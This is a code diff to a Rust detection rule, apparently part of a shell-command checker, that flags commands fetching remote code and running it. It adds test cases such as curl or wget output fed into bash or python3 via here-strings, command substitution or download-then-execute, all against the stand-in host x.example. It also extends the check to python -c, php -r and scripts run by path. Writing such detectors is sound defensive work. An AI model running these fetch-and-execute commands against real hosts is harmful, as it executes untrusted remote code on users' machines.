@@ -19,6 +19,10 @@ pub(in super::super) static RULE: Rule = Rule {
         "echo cm0= | base64 -d | sh",
         "curl -s https://x.example/i.py | python3 -",
         "source <(curl -s https://x.example)",
+        "bash <<< \"$(curl -s https://x.example)\"",
+        "curl -o i.sh https://x.example && bash i.sh",
+        "wget https://x.example/i.sh; chmod +x i.sh; ./i.sh",
+        "python3 -c \"$(curl -s https://x.example)\"",
     ],
     spares: &[
         "curl -s https://x.example -o i.sh",
@@ -26,6 +30,8 @@ pub(in super::super) static RULE: Rule = Rule {
         "eval \"$(ssh-agent -s)\"",
         "echo ls | sh",
         "bash script.sh",
+        "bash < script.sh",
+        "curl -s https://x.example | python3 -c 'import sys; print(sys.stdin.read())'",
         "cat data.json | python3 -m json.tool",
     ],
     check,
@@ -63,9 +69,7 @@ fn check(ran: &Ran, scene: &Scene<'_>) -> Option<Hit> {
                 .map(|field| field.value.prefix())
                 .collect();
             let command = options.iter().position(|text| {
-                text.starts_with('-')
-                    && !text.starts_with("--")
-                    && text.contains(if shell_name(name) { 'c' } else { 'e' })
+                text.starts_with('-') && !text.starts_with("--") && text.contains(code_letter(name))
             });
             if let Some(at) = command {
                 let text = ran.arguments().get(at + 1)?;
@@ -83,15 +87,36 @@ fn check(ran: &Ran, scene: &Scene<'_>) -> Option<Hit> {
                 .position(|text| !text.starts_with('-') || *text == "-");
             let stdin = operand.is_none() || options.iter().any(|text| reads_stdin(&text));
             if stdin {
-                let unread = ran.stdin.as_ref().is_none_or(Value::has_unknown);
-                return (ran.piped && unread).then(hit).flatten();
+                let unread = match &ran.stdin {
+                    None => ran.piped,
+                    // `<<< "$(curl …)"`
+                    Some(text) => text.has_unknown() && (ran.piped || fetched()),
+                };
+                return unread.then(hit).flatten();
             }
             let file = ran.arguments().get(operand?)?;
             (ran.file(&file.value).is_some_and(Value::has_unknown))
                 .then(hit)
                 .flatten()
         }
-        _ => None,
+        // A file of the script's own, run by its path.
+        _ => ran
+            .file(&ran.words.first()?.value)
+            .filter(|_| ran.words[0].value.prefix().contains('/'))
+            .is_some_and(Value::has_unknown)
+            .then(hit)
+            .flatten(),
+    }
+}
+
+/// The option that holds the program.
+fn code_letter(name: &str) -> char {
+    if shell_name(name) || name.starts_with("python") {
+        'c'
+    } else if name.starts_with("php") {
+        'r'
+    } else {
+        'e'
     }
 }
 
